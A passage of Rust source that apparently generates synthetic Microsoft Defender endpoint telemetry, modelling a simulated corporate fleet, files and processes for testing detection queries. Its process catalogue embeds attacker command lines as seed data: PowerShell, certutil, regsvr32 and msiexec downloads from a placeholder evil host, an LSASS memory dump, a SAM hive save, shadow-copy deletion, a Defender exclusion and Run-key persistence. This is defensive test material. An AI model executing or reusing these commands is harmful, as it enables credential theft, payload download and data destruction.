                id: hash_hex(key, 40),
                os: pick::<&OsSpec>(rng, group.os),
                group: *pick(rng, group.groups),
                user: owner as u16,
                aad: (!group.role.is_server()).then(|| guid(key.rotate_left(11), key ^ 0xaad)),
                azure,
                name,
                role: group.role,
                ip,
                mac,
                public_ip,
                vendor,
                model,
                key,
            });
        }
    }
    devices
}

fn build_files(rng: &mut ChaCha8Rng, seed: u64) -> Vec<FileEntry> {
    let mut files = Vec::new();
    for (source, kind) in FILE_KINDS.iter().enumerate() {
        let norm: f64 = (0..kind.count).map(|j| 1.0 / (j as f64 + 1.0)).sum();
        for j in 0..kind.count {
            let template = kind.names[rng.random_range(0..kind.names.len())];
            let name = fill_digits(template, rng);
            let dir = fill_digits(kind.dir, rng);
            let ext = name
                .rsplit_once('.')
                .map_or("", |(_, e)| e)
                .to_ascii_lowercase();
            let (file_type, size_range) = match ext.as_str() {
                "exe" | "dll" | "sys" => ("PortableExecutable", 40_000..60_000_000),
                "msi" => ("Msi", 1_000_000..200_000_000),
                "pdf" => ("Pdf", 30_000..4_000_000),
                "docx" | "doc" => ("Docx", 12_000..2_000_000),
                "xlsx" | "xlsm" | "csv" => ("Xlsx", 8_000..6_000_000),
                "pptx" => ("Pptx", 200_000..30_000_000),
                "zip" | "iso" | "7z" => ("Zip", 50_000..80_000_000),
                "lnk" => ("Lnk", 1_000..4_000),
                "ps1" | "js" | "vbs" | "sh" | "bat" => ("Script", 200..60_000),
                "jpg" | "png" => ("Jpeg", 20_000..5_000_000),
                _ => ("Unknown", 0..2_000_000),
            };
            let key = hash3(
                seed,
                xxhash_rust::xxh3::xxh3_64(name.as_bytes()),
                files.len() as u64,
            );
            files.push(FileEntry {
                hashes: Hashes::of(key),
                size: rng.random_range(size_range),
                kind: file_type,
                origin: kind.origin,
                malicious: kind.malicious,
                source: source as u16,
                weight: kind.weight / (j as f64 + 1.0) / norm,
                name,
                dir,
            });
        }
    }
    files
}

/// Replaces `#` by random digits and `%` by random hex digits.
fn fill_digits(template: &str, rng: &mut ChaCha8Rng) -> String {
    template
        .chars()
        .map(|c| match c {
            '#' => char::from(b'0' + rng.random_range(0..10u8)),
            '%' => char::from(b"0123456789ABCDEF"[rng.random_range(0..16usize)]),
            c => c,
        })
        .collect()
}

fn build_endpoints(seed: u64, devices: &[Device]) -> Vec<Endpoint> {
    let mut endpoints = Vec::new();
    for (i, host) in HOSTS.iter().enumerate() {
        for n in 0..2u64 {
            let h = hash3(seed, i as u64, n);
            let prefix = host.prefixes[(h % host.prefixes.len() as u64) as usize];
            let ip = if prefix.matches('.').count() == 3 {
                format!("{prefix}{}", 2 + (h >> 8) % 250)
            } else {
                format!("{prefix}{}.{}", (h >> 8) % 250 + 2, (h >> 16) % 250 + 2)
            };
            endpoints.push(Endpoint {
                host: (!host.host.is_empty()).then_some(host.host),
                ip,
                port: host.port,
                udp: host.port == 53 || host.port == 123,
                cat: host.cat,
                device: None,
            });
        }
    }
    for (i, d) in devices.iter().enumerate() {
        let ports: &[u16] = match d.role {
            Role::Dc => &[88, 389, 445, 135, 53],
            Role::Sql => &[1433],
            Role::FileServer => &[445],
            Role::Web => &[443, 80],
            Role::App => &[443, 8080],
            Role::Linux => &[22, 443],
            _ => &[],
        };
        for &port in ports {
            endpoints.push(Endpoint {
                host: None,
                ip: d.ip.clone(),
                port,
                udp: port == 53,
                cat: EpCat::Internal,
                device: Some(i as u16),
            });
        }
        endpoints.push(Endpoint {
            host: None,
            ip: d.ip.clone(),
            port: 0,
            udp: false,
            cat: EpCat::Client,
            device: Some(i as u16),
        });
    }
    endpoints
}

fn build_urls(rng: &mut ChaCha8Rng) -> Vec<UrlEntry> {
    let mut urls = Vec::new();
    for site in URL_SITES {
        for path in site.paths {
            let path = fill_digits(path, rng);
            let h: u64 = rng.random();
            urls.push(UrlEntry {
                url: format!("https://{}{path}", site.domain),
                domain: site.domain.to_string(),
                ip: format!("{}{}", site.ip_prefix, 2 + h % 250),
                bad: site.bad,
            });
        }
    }
    urls
}

/// `powershell -enc` payload: base64 of the UTF-16LE command.
fn encode_powershell(command: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &b)| n | u32::from(b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

// ────────────────────────────── the catalogue ──────────────────────────────
//
// Static data the world is built from. Names, paths and command lines follow
// what Defender reports on real fleets; a few entries are attacker tradecraft
// (encoded PowerShell, certutil downloads, LSASS dumps, DCSync, inbox rules)
// so that detection queries have something to find.

const PERSONS: usize = 300;
const ADMINS: usize = 8;
const SERVICE_ACCOUNTS: &[&str] = &["svc_sql", "svc_backup", "svc_sccm", "svc_web", "svc_adsync"];
const DOMAIN_SID: &str = "S-1-5-21-1004336348-1177238915-682003330";
const AD_DOMAIN: &str = "corp.contoso.com";
const AZURE_SUBSCRIPTION: &str = "8c5f3d21-6b7e-4f0a-9d12-3e4b5a6c7d8e";
const CORP_EGRESS: &str = "104.129.206.";
const MDE: &str = "Microsoft Defender for Endpoint";

const FIRST_NAMES: &[&str] = &[
    "James",
    "Mary",
    "Robert",
    "Patricia",
    "John",
    "Jennifer",
    "Michael",
    "Linda",
    "David",
    "Elizabeth",
    "William",
    "Barbara",
    "Richard",
    "Susan",
    "Joseph",
    "Jessica",
    "Thomas",
    "Sarah",
    "Christopher",
    "Karen",
    "Daniel",
    "Lisa",
    "Matthew",
    "Nancy",
    "Anthony",
    "Sandra",
    "Mark",
    "Ashley",
    "Priya",
    "Wei",
    "Mei",
    "Hiroshi",
    "Yuki",
    "Ahmed",
    "Fatima",
    "Olga",
    "Ivan",
    "José",
    "María",
    "Zoë",
    "Björn",
    "Łukasz",
    "Søren",
    "François",
    "Anaïs",
    "Jürgen",
    "Chloé",
    "Renée",
    "Ömer",
    "Ayşe",
    "Siobhán",
    "Aoife",
    "Kwame",
    "Amara",
    "Oluwaseun",
    "Carlos",
    "Sofía",
    "Lars",
    "Ingrid",
    "Mateo",
];
const LAST_NAMES: &[&str] = &[
    "Smith",
    "Johnson",
    "Williams",
    "Brown",
    "Jones",
    "Garcia",
    "Miller",
    "Davis",
    "Rodriguez",
    "Martinez",
    "Hernandez",
    "Lopez",
    "Wilson",
    "Anderson",
    "Taylor",
    "Thomas",
    "Moore",
    "Jackson",
    "Martin",
    "Lee",
    "Müller",
    "Schmidt",
    "Schneider",
    "Fischer",
    "Weber",
    "Dubois",
    "Lefèvre",
    "Rossi",
    "Bianchi",
    "Kowalski",
    "Nowak",
    "Wiśniewski",
    "Jansen",
    "de Vries",
    "Andersson",
    "Ødegaard",
    "Nielsen",
    "Nakamura",
    "Tanaka",
    "Kim",
    "Park",
    "Chen",
    "Wang",
    "Singh",
    "Patel",
    "Okafor",
    "O'Brien",
    "Núñez",
    "Şahin",
    "Yılmaz",
    "Novák",
    "Horváth",
    "Popescu",
    "Ivanova",
    "Petrov",
];
const PARTNER_CONTACTS: &[(&str, &str)] = &[
    ("anna", "berg"),
    ("tom", "hughes"),
    ("li", "na"),
    ("pedro", "alves"),
    ("emma", "fischer"),
    ("raj", "kumar"),
];

const WIN11: OsSpec = OsSpec {
    platform: "Windows11",
    version: "10.0",
    build: 22631,
    revision: "4602",
    distribution: "Windows",
    version_info: "23H2",
    arch: "64-bit",
    client: "10.8760.22631.1042",
};
const WIN10: OsSpec = OsSpec {
    platform: "Windows10",
    version: "10.0",
    build: 19045,
    revision: "5131",
    distribution: "Windows",
    version_info: "22H2",
    arch: "64-bit",
    client: "10.8760.19045.5011",
};
const WS2022: OsSpec = OsSpec {
    platform: "WindowsServer2022",
    version: "10.0",
    build: 20348,
    revision: "2849",
    distribution: "Windows",
    version_info: "21H2",
    arch: "64-bit",
    client: "10.8760.20348.2700",
};
const WS2019: OsSpec = OsSpec {
    platform: "WindowsServer2019",
    version: "10.0",
    build: 17763,
    revision: "6414",
    distribution: "Windows",
    version_info: "1809",
    arch: "64-bit",
    client: "10.8760.17763.6293",
};
const UBUNTU: OsSpec = OsSpec {
    platform: "Linux",
    version: "22.04",
    build: 0,
    revision: "",
    distribution: "Ubuntu",
    version_info: "",
    arch: "64-bit",
    client: "101.24092.0004",
};
const RHEL: OsSpec = OsSpec {
    platform: "Linux",
    version: "9.4",
    build: 0,
    revision: "",
    distribution: "RedHatEnterpriseLinux",
    version_info: "",
    arch: "64-bit",
    client: "101.24092.0004",
};
const MACOS: OsSpec = OsSpec {
    platform: "macOS",
    version: "14.6.1",
    build: 0,
    revision: "",
    distribution: "macOS",
    version_info: "Sonoma",
    arch: "arm64",
    client: "101.24092.0007",
};

const WORKSTATION_GROUPS: &[(Option<&str>, u16)] = &[
    (Some("Workstations"), 8),
    (Some("Workstations - Finance"), 2),
    (Some("UnassignedGroup"), 1),
    (None, 1),
];
const SERVER_GROUPS: &[(Option<&str>, u16)] = &[(Some("Servers"), 6), (Some("UnassignedGroup"), 1)];
const VIRTUAL: &[(&str, &str)] = &[("Microsoft Corporation", "Virtual Machine")];

const FLEET: &[FleetGroup] = &[
    FleetGroup {
        role: Role::Workstation,
        prefix: "wks-",
        count: 190,
        gaps: true,
        os: &[(&WIN11, 7), (&WIN10, 3)],
        groups: WORKSTATION_GROUPS,
        subnet: (20, 0),
        hardware: &[
            ("Dell Inc.", "OptiPlex 7010"),
            ("HP", "HP EliteDesk 800 G6 Desktop Mini PC"),
            ("LENOVO", "11JNS0AX00 ThinkCentre M70q"),
        ],
        weight: 1.0,
    },
    FleetGroup {
        role: Role::Laptop,
        prefix: "lt-",
        count: 140,
        gaps: true,
        os: &[(&WIN11, 8), (&WIN10, 2)],
        groups: WORKSTATION_GROUPS,
        subnet: (30, 0),
        hardware: &[
            ("LENOVO", "20XW0026GE ThinkPad X1 Carbon Gen 9"),
            ("Dell Inc.", "Latitude 7440"),
            ("Microsoft Corporation", "Surface Laptop 5"),
        ],
        weight: 1.0,
    },
    FleetGroup {
        role: Role::Dc,
        prefix: "srv-dc-",
        count: 3,
        gaps: false,
        os: &[(&WS2022, 2), (&WS2019, 1)],
        groups: &[(Some("Servers - Tier 0"), 1)],
        subnet: (10, 1),
        hardware: VIRTUAL,
        weight: 8.0,
    },
    FleetGroup {
        role: Role::Sql,
        prefix: "srv-sql-",
        count: 4,
        gaps: false,
        os: &[(&WS2019, 1), (&WS2022, 1)],
        groups: SERVER_GROUPS,
        subnet: (10, 2),
        hardware: &[
            ("Dell Inc.", "PowerEdge R650"),
            ("Microsoft Corporation", "Virtual Machine"),
        ],
        weight: 4.0,
    },
    FleetGroup {
        role: Role::FileServer,
        prefix: "srv-file-",
        count: 3,
        gaps: false,
        os: &[(&WS2022, 1)],
        groups: SERVER_GROUPS,
        subnet: (10, 3),
        hardware: VIRTUAL,
        weight: 4.0,
    },
    FleetGroup {
        role: Role::Web,
        prefix: "srv-web-",
        count: 6,
        gaps: false,
        os: &[(&WS2022, 1), (&WS2019, 1)],
        groups: SERVER_GROUPS,
        subnet: (10, 4),
        hardware: VIRTUAL,
        weight: 3.0,
    },
    FleetGroup {
        role: Role::App,
        prefix: "srv-app-",
        count: 8,
        gaps: false,
        os: &[(&WS2022, 1), (&WS2019, 1)],
        groups: SERVER_GROUPS,
        subnet: (10, 5),
        hardware: VIRTUAL,
        weight: 2.0,
    },
    FleetGroup {
        role: Role::Linux,
        prefix: "lnx-web-",
        count: 10,
        gaps: false,
        os: &[(&UBUNTU, 1)],
        groups: &[(Some("Linux Servers"), 3), (None, 1)],
        subnet: (10, 6),
        hardware: &[("VMware, Inc.", "VMware7,1")],
        weight: 2.0,
    },
    FleetGroup {
        role: Role::Linux,
        prefix: "lnx-db-",
        count: 6,
        gaps: false,
        os: &[(&RHEL, 1)],
        groups: &[(Some("Linux Servers"), 1)],
        subnet: (10, 7),
        hardware: &[("VMware, Inc.", "VMware7,1")],
        weight: 2.0,
    },
    FleetGroup {
        role: Role::Linux,
        prefix: "lnx-k8s-",
        count: 8,
        gaps: false,
        os: &[(&UBUNTU, 1)],
        groups: &[(Some("Linux Servers"), 1), (None, 1)],
        subnet: (10, 8),
        hardware: &[("VMware, Inc.", "VMware7,1")],
        weight: 2.0,
    },
    FleetGroup {
        role: Role::Mac,
        prefix: "mbp-",
        count: 22,
        gaps: false,
        os: &[(&MACOS, 1)],
        groups: &[(Some("Workstations"), 1), (Some("UnassignedGroup"), 1)],
        subnet: (30, 200),
        hardware: &[("Apple Inc.", "MacBookPro18,3")],
        weight: 1.0,
    },
];

/// Spawn, Net, File, Reg, Img, Misc.
const PROCS: &[ProcSpec] = &[
    ProcSpec {
        name: "smss.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Windows Session Manager", "smss.exe"),
        size: 161_792,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("smss.exe", 1)],
        cmds: &[("\\SystemRoot\\System32\\smss.exe", 1)],
        acts: [1, 0, 1, 1, 2, 0],
        net: Net::None,
    },
    ProcSpec {
        name: "wininit.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Windows Start-Up Application", "wininit.exe"),
        size: 471_040,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("smss.exe", 1)],
        cmds: &[("wininit.exe", 1)],
        acts: [1, 0, 1, 1, 1, 0],
        net: Net::None,
    },
    ProcSpec {
        name: "winlogon.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Windows Logon Application", "winlogon.exe"),
        size: 946_176,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("smss.exe", 1)],
        cmds: &[("winlogon.exe", 1)],
        acts: [2, 0, 1, 4, 2, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "services.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Services and Controller app", "services.exe"),
        size: 736_544,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("wininit.exe", 1)],
        cmds: &[("C:\\Windows\\system32\\services.exe", 1)],
        acts: [3, 0, 2, 10, 2, 2],
        net: Net::None,
    },
    ProcSpec {
        name: "lsass.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Local Security Authority Process", "lsass.exe"),
        size: 84_088,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("wininit.exe", 1)],
        cmds: &[("C:\\Windows\\system32\\lsass.exe", 1)],
        acts: [0, 6, 2, 6, 3, 3],
        net: Net::Internal,
    },
    ProcSpec {
        name: "svchost.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Host Process for Windows Services", "svchost.exe"),
        size: 57_400,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("services.exe", 1)],
        cmds: &[
            (
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                10,
            ),
            (
                "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache",
                6,
            ),
            (
                "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
                4,
            ),
            ("C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", 6),
            (
                "C:\\Windows\\system32\\svchost.exe -k wsappx -p -s AppXSvc",
                3,
            ),
            (
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv",
                3,
            ),
            (
                "C:\\Windows\\System32\\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{{hex5}}",
                2,
            ),
        ],
        acts: [40, 80, 60, 60, 60, 15],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "userinit.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Userinit Logon Application", "USERINIT.EXE"),
        size: 38_400,
        hosts: WIN,
        run_as: RunAs::User,
        parents: &[("winlogon.exe", 1)],
        cmds: &[("C:\\Windows\\system32\\userinit.exe", 1)],
        acts: [2, 0, 0, 1, 1, 0],
        net: Net::None,
    },
    ProcSpec {
        name: "explorer.exe",
        dir: "C:\\Windows",
        ver: win("Windows Explorer", "EXPLORER.EXE"),
        size: 5_383_896,
        hosts: WIN,
        run_as: RunAs::User,
        parents: &[("userinit.exe", 1)],
        cmds: &[("C:\\Windows\\Explorer.EXE", 1)],
        acts: [3, 3, 60, 30, 30, 10],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "taskhostw.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Host Process for Windows Tasks", "taskhostw.exe"),
        size: 101_856,
        hosts: WIN,
        run_as: RunAs::User,
        parents: &[("svchost.exe", 1)],
        cmds: &[
            ("taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", 3),
            ("taskhostw.exe Install $(Arg0)", 1),
            (
                "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
                1,
            ),
        ],
        acts: [15, 2, 8, 8, 10, 2],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "conhost.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Console Window Host", "CONHOST.EXE"),
        size: 1_011_712,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[("cmd.exe", 3), ("powershell.exe", 2)],
        cmds: &[
            (
                "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                5,
            ),
            (
                "\\??\\C:\\Windows\\system32\\conhost.exe --headless --width 80 --height 25 --signal 0x{{hex3}} -- \"C:\\Windows\\system32\\cmd.exe\"",
                1,
            ),
        ],
        acts: [80, 0, 1, 1, 6, 0],
        net: Net::None,
    },
    ProcSpec {
        name: "MsMpEng.exe",
        dir: "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0",
        ver: ver(
            "Microsoft Corporation",
            "Microsoft® Windows® Operating System",
            "4.18.24090.11",
            "Antimalware Service Executable",
            "MsMpEng.exe",
        ),
        size: 133_576,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("services.exe", 1)],
        cmds: &[(
            "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24090.11-0\\MsMpEng.exe\"",
            1,
        )],
        acts: [1, 15, 60, 10, 25, 10],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "MsSense.exe",
        dir: "C:\\Program Files\\Windows Defender Advanced Threat Protection",
        ver: ver(
            "Microsoft Corporation",
            "Microsoft® Windows® Operating System",
            "10.8760.26100.1742",
            "Windows Defender Advanced Threat Protection Service Executable",
            "MsSense.exe",
        ),
        size: 3_488_288,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("services.exe", 1)],
        cmds: &[("\"MsSense.exe\"", 1)],
        acts: [1, 40, 25, 5, 15, 3],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "cmd.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Windows Command Processor", "Cmd.Exe"),
        size: 323_584,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[
            ("explorer.exe", 10),
            ("svchost.exe", 8),
            ("powershell.exe", 4),
            ("WmiPrvSE.exe", 1),
            ("services.exe", 2),
            ("WINWORD.EXE", 1),
            ("EXCEL.EXE", 1),
            ("w3wp.exe", 1),
            ("sqlservr.exe", 1),
        ],
        cmds: &[
            (
                "\"C:\\Windows\\system32\\cmd.exe\" /c \"\"C:\\Program Files\\Contoso\\Agent\\healthcheck.cmd\"\"",
                20,
            ),
            ("C:\\Windows\\system32\\cmd.exe /c ver", 10),
            (
                "C:\\Windows\\system32\\cmd.exe /d /c \"C:\\Users\\{{user}}\\AppData\\Local\\Programs\\Microsoft VS Code\\bin\\code.cmd\" --version",
                4,
            ),
            ("cmd.exe /c \"del /f /q %TEMP%\\*.tmp\"", 4),
            ("cmd.exe /c ipconfig /all", 3),
            ("cmd.exe /c whoami /all", 1),
            ("cmd.exe /c net group \"Domain Admins\" /domain", 1),
            (
                "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__{{n10}}.{{n7}} 2>&1",
                1,
            ),
        ],
        acts: [40, 1, 15, 3, 10, 5],
        net: Net::None,
    },
    ProcSpec {
        name: "powershell.exe",
        dir: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        ver: win("Windows PowerShell", "PowerShell.EXE"),
        size: 450_560,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[
            ("explorer.exe", 10),
            ("svchost.exe", 6),
            ("AgentExecutor.exe", 15),
            ("cmd.exe", 6),
            ("WmiPrvSE.exe", 2),
            ("WINWORD.EXE", 1),
            ("EXCEL.EXE", 1),
        ],
        cmds: &[
            (
                "\"powershell.exe\" -executionPolicy bypass -file  \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\DetectionScripts\\{{guid}}_1.ps1\" ",
                30,
            ),
            (
                "powershell.exe -NoProfile -NonInteractive -Command \"Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object -ExpandProperty LastBootUpTime\"",
                10,
            ),
            (
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NoProfile -ExecutionPolicy RemoteSigned -File \"C:\\ProgramData\\Contoso\\Scripts\\Inventory.ps1\"",
                8,
            ),
            ("powershell.exe -nop -w hidden -enc {{b64}}", 1),
            (
                "powershell.exe -ExecutionPolicy Bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://{{evil}}/a.ps1')\"",
                1,
            ),
            (
                "powershell.exe -c \"Get-ADUser -Filter * -Properties servicePrincipalName | Where-Object {$_.servicePrincipalName} | Select-Object SamAccountName\"",
                1,
            ),
            (
                "powershell.exe -Command \"Add-MpPreference -ExclusionPath 'C:\\Users\\Public'\"",
                1,
            ),
        ],
        acts: [35, 10, 30, 8, 25, 40],
        net: Net::Mixed,
    },
    ProcSpec {
        name: "rundll32.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Windows host process (Rundll32)", "RUNDLL32.EXE"),
        size: 71_680,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[
            ("svchost.exe", 6),
            ("explorer.exe", 4),
            ("cmd.exe", 1),
            ("powershell.exe", 1),
        ],
        cmds: &[
            (
                "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding",
                10,
            ),
            (
                "rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 WinY:0 IEFrame:0000000000000000",
                4,
            ),
            (
                "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\System32\\LogiLDA.dll,LogiFetch",
                3,
            ),
            (
                "rundll32.exe C:\\Users\\{{user}}\\AppData\\Local\\Temp\\{{hex8}}.dll,DllRegisterServer",
                1,
            ),
            (
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {{n3}} C:\\Windows\\Temp\\{{hex4}}.dmp full",
                1,
            ),
        ],
        acts: [15, 2, 5, 4, 20, 5],
        net: Net::Mixed,
    },
    ProcSpec {
        name: "regsvr32.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Microsoft(C) Register Server", "REGSVR32.EXE"),
        size: 25_600,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[("msiexec.exe", 5), ("explorer.exe", 2), ("cmd.exe", 1)],
        cmds: &[
            (
                "regsvr32.exe /s \"C:\\Program Files\\Common Files\\microsoft shared\\ink\\tipskins.dll\"",
                8,
            ),
            (
                "regsvr32.exe /s /n /u /i:http://{{evil}}/file.sct scrobj.dll",
                1,
            ),
        ],
        acts: [3, 1, 2, 5, 6, 1],
        net: Net::Mixed,
    },
    ProcSpec {
        name: "schtasks.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Task Scheduler Configuration Tool", "schtasks.exe"),
        size: 235_520,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[
            ("svchost.exe", 4),
            ("cmd.exe", 3),
            ("powershell.exe", 3),
            ("msiexec.exe", 2),
        ],
        cmds: &[
            ("schtasks.exe /query /fo csv /v", 6),
            (
                "schtasks /run /tn \"\\Microsoft\\Office\\Office Automatic Updates 2.0\"",
                6,
            ),
            (
                "schtasks.exe /create /tn \"OneDrive Standalone Update Task-{{usersid}}\" /tr \"C:\\Users\\Public\\{{hex8}}.exe\" /sc minute /mo 30 /f",
                1,
            ),
        ],
        acts: [4, 0, 2, 3, 3, 4],
        net: Net::None,
    },
    ProcSpec {
        name: "certutil.exe",
        dir: "C:\\Windows\\System32",
        ver: win("CertUtil.exe", "CertUtil.exe"),
        size: 1_509_888,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[("cmd.exe", 3), ("powershell.exe", 2), ("svchost.exe", 2)],
        cmds: &[
            ("certutil.exe -verifystore Root", 5),
            (
                "certutil.exe -urlcache -split -f http://{{evil}}/payload.txt C:\\Users\\Public\\{{hex6}}.exe",
                1,
            ),
            (
                "certutil -decode C:\\Users\\Public\\enc.txt C:\\Users\\Public\\run.dll",
                1,
            ),
        ],
        acts: [1, 1, 1, 1, 2, 1],
        net: Net::Suspicious,
    },
    ProcSpec {
        name: "wmic.exe",
        dir: "C:\\Windows\\System32\\wbem",
        ver: win("WMI Commandline Utility", "wmic.exe"),
        size: 571_392,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[("cmd.exe", 3), ("powershell.exe", 2), ("svchost.exe", 1)],
        cmds: &[
            ("wmic os get caption,version /value", 6),
            (
                "wmic.exe /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName /format:list",
                3,
            ),
            (
                "wmic.exe /node:{{ip}} process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\"",
                1,
            ),
            ("wmic shadowcopy delete /nointeractive", 1),
        ],
        acts: [2, 1, 1, 1, 3, 2],
        net: Net::Internal,
    },
    ProcSpec {
        name: "WmiPrvSE.exe",
        dir: "C:\\Windows\\System32\\wbem",
        ver: win("WMI Provider Host", "Wmiprvse.exe"),
        size: 571_904,
        hosts: WIN,
        run_as: RunAs::NetworkService,
        parents: &[("svchost.exe", 1)],
        cmds: &[
            (
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                5,
            ),
            ("C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding", 3),
        ],
        acts: [8, 3, 5, 6, 15, 6],
        net: Net::Internal,
    },
    ProcSpec {
        name: "net.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Net Command", "net.exe"),
        size: 59_392,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[("cmd.exe", 4), ("powershell.exe", 2)],
        cmds: &[
            ("net use \\\\srv-file-01\\Finance$", 5),
            ("net localgroup administrators", 2),
            ("net user /domain", 1),
            ("net group \"Domain Admins\" /domain", 1),
            ("net time \\\\{{dc}}", 1),
        ],
        acts: [3, 2, 0, 0, 2, 1],
        net: Net::Internal,
    },
    ProcSpec {
        name: "whoami.exe",
        dir: "C:\\Windows\\System32",
        ver: win("whoami - displays logged on user information", "whoami.exe"),
        size: 71_168,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[("cmd.exe", 3), ("powershell.exe", 2)],
        cmds: &[
            ("\"whoami.exe\" /user", 3),
            ("whoami /priv", 1),
            ("whoami /all", 1),
            ("whoami /groups", 1),
        ],
        acts: [3, 0, 0, 0, 1, 0],
        net: Net::None,
    },
    ProcSpec {
        name: "reg.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Registry Console Tool", "reg.exe"),
        size: 73_728,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[("cmd.exe", 4), ("powershell.exe", 2), ("msiexec.exe", 1)],
        cmds: &[
            (
                "reg.exe query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\" /v ReleaseId",
                6,
            ),
            (
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d \"C:\\Users\\Public\\{{hex8}}.exe\" /f",
                1,
            ),
            ("reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y", 1),
        ],
        acts: [3, 0, 1, 10, 2, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "msiexec.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Windows® installer", "msiexec.exe"),
        size: 69_632,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("services.exe", 5), ("explorer.exe", 2)],
        cmds: &[
            ("C:\\Windows\\system32\\msiexec.exe /V", 10),
            (
                "C:\\Windows\\System32\\MsiExec.exe -Embedding {{HEX32}} E Global\\MSI0000",
                5,
            ),
            (
                "\"C:\\Windows\\System32\\msiexec.exe\" /i \"C:\\Users\\{{user}}\\Downloads\\ZoomInstallerFull.msi\" /qn",
                2,
            ),
            ("msiexec.exe /q /i http://{{evil}}/i.msi", 1),
        ],
        acts: [6, 3, 25, 25, 10, 2],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "sdbinst.exe",
        dir: "C:\\Windows\\System32",
        ver: win(
            "Application Compatibility Database Installer",
            "sdbinst.exe",
        ),
        size: 299_008,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("svchost.exe", 1)],
        cmds: &[("sdbinst.exe -m -bg", 1)],
        acts: [2, 0, 3, 2, 1, 0],
        net: Net::None,
    },
    ProcSpec {
        name: "CompatTelRunner.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Microsoft Compatibility Telemetry", "CompatTelRunner.exe"),
        size: 132_096,
        hosts: WIN,
        run_as: RunAs::System,
        parents: &[("svchost.exe", 1)],
